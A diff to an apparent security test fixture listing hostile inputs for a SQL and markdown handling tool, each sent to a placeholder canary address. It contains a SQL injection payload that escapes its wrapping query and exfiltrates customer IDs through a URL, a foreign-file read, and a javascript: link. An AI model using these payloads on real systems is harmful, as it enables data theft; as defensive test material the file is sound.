@@ -6,14 +6,14 @@ const bar = (extra: object) => ({
   ...extra,
 });
 
-/** The first twenty. */
+/** The first twenty-one. */
 export const reports: readonly Hostile[] = [
   { id: 'sql-read', tries: 'reads a foreign file', kind: 'sql', sql: "SELECT * FROM read_csv('{{canary}}/sql-read.csv')" },
   {
     id: 'sql-leak',
-    tries: 'sends rows out in an address',
+    tries: 'leaves the wrapper and sends customers out in an address',
     kind: 'sql',
-    sql: "SELECT * FROM read_text('{{canary}}/sql-leak?d=' || (SELECT string_agg(customer_id, ',') FROM customers))",
+    sql: "SELECT 1) AS x; SET VARIABLE d = (SELECT string_agg(customer_id, '-') FROM customers); FROM read_text('{{canary}}/sql-leak?d=' || getvariable('d')); SELECT * FROM (SELECT 1",
   },
   {
     id: 'sql-hidden',
@@ -131,6 +131,7 @@ export const reports: readonly Hostile[] = [
     id: 'text-script-link',
     tries: 'makes a link that runs script',
     kind: 'markdown',
-    markdown: "[open](javascript:void(location='{{canary}}/text-script-link'))\n\n[plain]({{canary}}/text-plain-link)",
+    markdown: "[open](javascript:void(location='{{canary}}/text-script-link'))",
   },
+  { id: 'text-link', tries: 'links to an address that is not encrypted', kind: 'markdown', markdown: '[more]({{canary}}/text-link)' },
 ];
